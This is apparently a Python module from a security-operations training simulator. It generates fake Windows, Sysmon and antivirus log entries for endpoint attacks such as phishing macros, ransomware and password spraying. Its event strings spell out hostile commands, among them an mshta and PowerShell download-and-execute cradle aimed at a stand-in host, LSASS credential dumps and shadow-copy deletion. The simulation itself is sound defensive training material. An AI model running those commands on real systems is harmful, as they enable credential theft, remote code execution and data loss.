"""Attacks on people's machines: what Windows, Sysmon and the antivirus console see."""

from __future__ import annotations

import base64
import hashlib
from typing import TYPE_CHECKING

from citysoc.simulation.formats import antivirus, windows
from citysoc.simulation.formats.antivirus import Detection
from citysoc.simulation.stamps import MINUTE, SECOND

if TYPE_CHECKING:
    from citysoc.simulation.attacks.plot import Plot
    from citysoc.simulation.city import Host, Site

_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
_SYSTEM32 = "C:\\Windows\\System32\\"
_POWERSHELL = _SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
_EXPORTS = ("csv", "text", "xlsx")


def _detected(
    site: Site, host: Host, at: int, *, malware: str, kind: str, path: str, action: str
) -> Detection:
    digest = hashlib.md5(malware.encode(), usedforsecurity=False).hexdigest()
    return Detection(
        at,
        host.name,
        host.address,
        site.agency.name,
        host.user,
        malware,
        kind,
        path,
        action,
        host.system,
        digest,
    )


def macro_attachment(plot: Plot) -> None:
    """Word opens an attachment from the mail and starts a command shell."""
    if (stream := plot.find("windows", also="antivirus")) is None:
        return
    host, at = plot.host(stream.site), plot.office_hours()
    plot.about_host(host)
    plot.about(f"user:{host.user}")
    document = f"C:\\Users\\{host.user}\\Downloads\\Giay moi hop khan.docm"
    line = windows.process_sysmon(
        plot.stamps,
        at,
        host.computer,
        user=host.user,
        image=_SYSTEM32 + "cmd.exe",
        command='cmd.exe /c start /min mshta.exe "https://tai-ve.giay-moi.example/hop.hta"',
        parent=_OFFICE + "WINWORD.EXE",
        parent_command=f'"{_OFFICE}WINWORD.EXE" /n "{document}"',
    )
    plot.put(stream, at, line)


def encoded_powershell(plot: Plot) -> None:
    """PowerShell runs a hidden, encoded command that fetches the next stage."""
    if (stream := plot.find("windows", also="antivirus")) is None:
        return
    host, at = plot.host(stream.site), plot.office_hours()
    plot.about_host(host)
    plot.about(f"user:{host.user}")
    script = "IEX (New-Object Net.WebClient).DownloadString('http://tai-ve.giay-moi.example/a.ps1')"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    command = f"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc {encoded}"
    line = windows.process_sysmon(
        plot.stamps,
        at,
        host.computer,
        user=host.user,
        image=_POWERSHELL,
        command=command,
        parent=_SYSTEM32 + "mshta.exe",
    )
    plot.put(stream, at, line)
    line = windows.process_4688(
        plot.stamps,
        at + 20,
        host.computer,
        user=host.user,
        image=_POWERSHELL,
        command=command,
        parent=_SYSTEM32 + "mshta.exe",
    )
    plot.put(stream, at + 20, line)
    line = windows.connection_sysmon(
        plot.stamps,
        at + 900,
        host.computer,
        user=host.user,
        image=_POWERSHELL,
        address=plot.attacker(),
        port=80,
        name="tai-ve.giay-moi.example",
    )
    plot.put(stream, at + 900, line)


def lsass_dump(plot: Plot) -> None:
    """A tool copies the memory that holds the passwords."""
    if (stream := plot.find("windows", also="antivirus")) is None:
        return
    host, at = plot.host(stream.site), plot.office_hours()
    plot.about_host(host)
    plot.about(f"user:{host.user}")
    tool = "C:\\Windows\\Temp\\pd64.exe"
    line = windows.process_sysmon(
        plot.stamps,
        at,
        host.computer,
        user=host.user,
        image=tool,
        command="pd64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp",
        parent=_POWERSHELL,
    )
    plot.put(stream, at, line)
    at += 700
    line = windows.access_sysmon(
        plot.stamps,
        at,
        host.computer,
        user=host.user,
        source=tool,
        target=_SYSTEM32 + "lsass.exe",
        rights="0x1FFFFF",
    )
    plot.put(stream, at, line)
    line = windows.process_sysmon(
        plot.stamps,
        at + MINUTE,
        host.computer,
        user=host.user,
        image=_SYSTEM32 + "rundll32.exe",
        command="rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Temp\\l2.dmp full",
        parent=_POWERSHELL,
    )
    plot.put(stream, at + MINUTE, line)


def remote_service(plot: Plot) -> None:
    """Other machines are taken over by a service that is put on them over the network."""
    if (stream := plot.find("windows", also="antivirus")) is None:
        return
    site = stream.site
    origin, at = plot.host(site), plot.office_hours()
    plot.about_host(origin)
    plot.about(f"ip:{origin.address}")
    others = [host for host in site.hosts if host != origin] or [origin]
    for host in plot.rng.sample(others, min(4, len(others))):
        plot.about_host(host)
        logon = windows.logon(
            plot.stamps,
            at,
            host.computer,
            user="Administrator",
            address=origin.address,
            logon_type=3,
            success=True,
        )
        plot.put(stream, at, logon, telling=False)
        line = windows.service_installed(
            plot.stamps, at + SECOND, host.computer, name="PSEXESVC", path="%SystemRoot%\\PSEXESVC.exe"
        )
        plot.put(stream, at + SECOND, line)
        at += plot.rng.randrange(20, 200) * SECOND


def log_cleared(plot: Plot) -> None:
    """The Security log is emptied."""
    if (stream := plot.find("windows", also="antivirus")) is None:
        return
    host, at = plot.host(stream.site), plot.office_hours()
    plot.about_host(host)
    plot.put(stream, at, windows.log_cleared(plot.stamps, at, host.computer, user="Administrator"))


def ransomware(plot: Plot) -> None:
    """Shadow copies go, files get a new ending, a note appears; the antivirus cannot clean it."""
    if (stream := plot.find("windows", also="antivirus")) is None:
        return
    site = stream.site
    host, at = plot.host(site), plot.office_hours()
    plot.about_host(host)
    locker = "C:\\ProgramData\\svc\\locker.exe"
    line = windows.process_sysmon(
        plot.stamps,
        at,
        host.computer,
        user="Administrator",
        image=_SYSTEM32 + "vssadmin.exe",
        command="vssadmin.exe delete shadows /all /quiet",
        parent=locker,
    )
    plot.put(stream, at, line)
    for n in range(24):
        at += plot.rng.randrange(200, 2500)
        target = (
            f"D:\\Van ban\\DOC_FILE_KHOI_PHUC_{n // 8}.txt"
            if n % 8 == 0
            else f"D:\\Van ban\\CV-{n}.docx.locked"
        )
        line = windows.file_sysmon(
            plot.stamps, at, host.computer, user="Administrator", image=locker, target=target
        )
        plot.put(stream, at, line)
    console = plot.beside(site, "antivirus", _EXPORTS)
    if console is not None:
        for n in range(6):
            row = _detected(
                site,
                host,
                at + n * SECOND,
                malware="W32.LockFilesHC.Ransom",
                kind="Mã hóa dữ liệu",
                path=locker if n == 0 else f"D:\\Van ban\\CV-{n}.docx.locked",
                action=antivirus.FAILED,
            )
            plot.put(console, row.at, row)


def new_administrator(plot: Plot) -> None:
    """A new local account is made an administrator."""
    if (stream := plot.find("windows")) is None:
        return
    host, at = plot.host(stream.site), plot.night(23.0)
    plot.about_host(host)
    plot.about("user:support_388945")
    line = windows.account_created(plot.stamps, at, host.computer, user="support_388945", by="Administrator")
    plot.put(stream, at, line)
    at += 4 * SECOND
    plot.put(stream, at, windows.administrator_added(plot.stamps, at, host.computer, by="Administrator"))


def protection_off(plot: Plot) -> None:
    """Real-time protection is switched off on some machines."""
    if (stream := plot.find("windows")) is None:
        return
    at = plot.office_hours()
    for host in plot.rng.sample(stream.site.hosts, min(3, len(stream.site.hosts))):
        plot.about_host(host)
        plot.put(stream, at, windows.protection_off(plot.stamps, at, host.computer))
        at += plot.rng.randrange(30, 300) * SECOND


def usb_worm(plot: Plot) -> None:
    """The same worm comes on memory sticks to many machines of an agency and one stays infected."""
    streams = sorted(plot.all("antivirus", _EXPORTS), key=lambda stream: -len(stream.site.hosts))
    if not streams:
        return
    stream = streams[len(streams) // 10]
    site, at = stream.site, plot.office_hours()
    plot.about("malware:VBS.ShortcutLan.Worm")
    hosts = plot.rng.sample(site.hosts, min(22, len(site.hosts)))
    for n, host in enumerate(hosts):
        plot.about_host(host)
        row = _detected(
            site,
            host,
            at,
            malware="VBS.ShortcutLan.Worm",
            kind="Sâu",
            path=f"{'EFG'[n % 3]}:\\Tai lieu hop {n}.lnk",
            action=antivirus.UNRESOLVED if n == len(hosts) - 1 else antivirus.DELETED,
        )
        plot.put(stream, at, row)
        at += plot.rng.randrange(3, 90) * MINUTE


def infostealer(plot: Plot) -> None:
    """Spyware that takes stored passwords is found and found again, and not removed."""
    if (stream := plot.find("antivirus", _EXPORTS)) is None:
        return
    host, at = plot.host(stream.site), plot.office_hours()
    plot.about_host(host)
    plot.about(f"user:{host.user}", "malware:MSIL.PassGrab.Spyware")
    for n in range(5):
        row = _detected(
            stream.site,
            host,
            at,
            malware="MSIL.PassGrab.Spyware",
            kind="Gián điệp",
            path=f"C:\\Users\\{host.user}\\AppData\\Roaming\\wincfg\\svchost.exe",
            action=antivirus.UNRESOLVED if n % 2 else antivirus.FAILED,
        )
        plot.put(stream, at, row)
        at += plot.rng.randrange(60, 400) * MINUTE


def password_spraying(plot: Plot) -> None:
    """One password is tried once on each account: each failure looks like a typing error."""
    if (stream := plot.find("windows")) is None:
        return
    site, at = stream.site, plot.night(5.0)
    origin = plot.host(site)
    plot.about_host(origin)
    plot.about(f"ip:{origin.address}")
    for user in sorted({host.user for host in site.hosts})[:40]:
        line = windows.logon(
            plot.stamps,
            at,
            site.hosts[0].computer,
            user=user,
            address=origin.address,
            logon_type=3,
            success=False,
        )
        plot.put(stream, at, line, telling=False)
        at += plot.rng.randrange(40, 160) * SECOND
